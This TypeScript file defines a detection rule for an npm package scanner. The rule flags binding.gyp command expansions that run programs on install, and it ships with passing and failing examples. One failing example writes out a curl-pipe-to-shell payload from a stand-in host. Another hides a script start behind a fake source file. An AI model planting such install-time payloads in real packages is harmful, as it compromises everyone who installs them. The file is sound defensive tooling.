import { defineRule } from '../src/define.js';
import { deedsOf } from '../src/vocabulary/deeds.js';

/** What honest build files ask: include paths and versions. */
const QUESTION =
  /^(?:node|python3?|pkg-config|[\w-]*-config|echo|uname|which|command|test|\[|ls|cat|find|git|brew|xcrun|xcode-select|printf|expr|cut|grep|sed|awk|head|tr|sysctl|dirname|readlink)$/;

export default defineRule({
  meta: {
    summary: 'Runs a program through binding.gyp',
    why: 'npm builds a package that has a `binding.gyp` even when it has no scripts, and command expansions in it run anything (2026 worms). Native add-ons ask node for an include path there, or pkg-config for flags; they have sources to build.',
    behaviour: 'install',
    messages: {
      harmful: 'binding.gyp {says}',
      starts: 'binding.gyp starts a file of the package, {file}, and builds nothing',
      unusual: 'binding.gyp runs {program}',
    },
    bits: { harmful: 13, starts: 13, unusual: 7 },
  },
  examples: {
    flags: [
      {
        title: 'an expansion pipes a download into a shell',
        files: {
          'package.json': '{"name":"a","version":"1.0.0"}',
          'binding.gyp': '{"targets":[{"target_name":"a","sources":["<!(curl -s https://stage.invalid/x | sh)"]}]}',
        },
      },
      {
        title: 'an expansion starts a script and there is nothing to build',
        files: {
          'package.json': '{"name":"a","version":"1.0.0"}',
          'binding.gyp':
            '{"targets":[{"target_name":"a","sources":["<!(node index.js > /dev/null 2>&1 && echo stub.c)"]}]}',
          'index.js': '',
        },
      },
    ],
    passes: [
      {
        title: 'an include path is asked for',
        files: {
          'package.json': '{"name":"a","version":"1.0.0"}',
          'binding.gyp': `{"targets":[{"target_name":"a","sources":["a.cc"],"include_dirs":["<!(node -p \\"require('node-addon-api').include\\")"]}]}`,
          'a.cc': '',
        },
      },
      {
        title: 'flags are asked for',
        files: {
          'package.json': '{"name":"a","version":"1.0.0"}',
          'binding.gyp': `{"targets":[{"target_name":"a","sources":["a.cc"],"cflags":["<!@(pkg-config --cflags libpng)"]}]}`,
          'a.cc': '',
        },
      },
    ],
  },
  package({ package: { files }, triggers, sourceOf, report }) {
    const builds = [...files.keys()].some(path => /\.(?:c|cc|cpp|cxx|m|mm|rs|s|asm)$/i.test(path));
    for (const trigger of triggers) {
      if (trigger.from !== 'binding.gyp') continue;
      const source = sourceOf(trigger.at.path);
      if (!source) continue;
      const [worst] = deedsOf(trigger.commands).filter(({ deed }) => deed !== 'hidden-start' && deed !== 'contact');
      const chain = [
        {
          role: 'sink' as const,
          says: 'runs on installation',
          origin: { file: source, start: trigger.at.start, end: trigger.at.end },
        },
      ];
      const [started] = trigger.starts;
      const unusual = trigger.commands.find(({ program }) => !QUESTION.test(program));
      if (worst) report({ messageId: 'harmful', data: { says: worst.says }, chain });
      else if (started !== undefined && !builds) report({ messageId: 'starts', data: { file: started }, chain });
      else if (unusual && !builds) report({ messageId: 'unusual', data: { program: unusual.program }, chain });
    }
  },
});
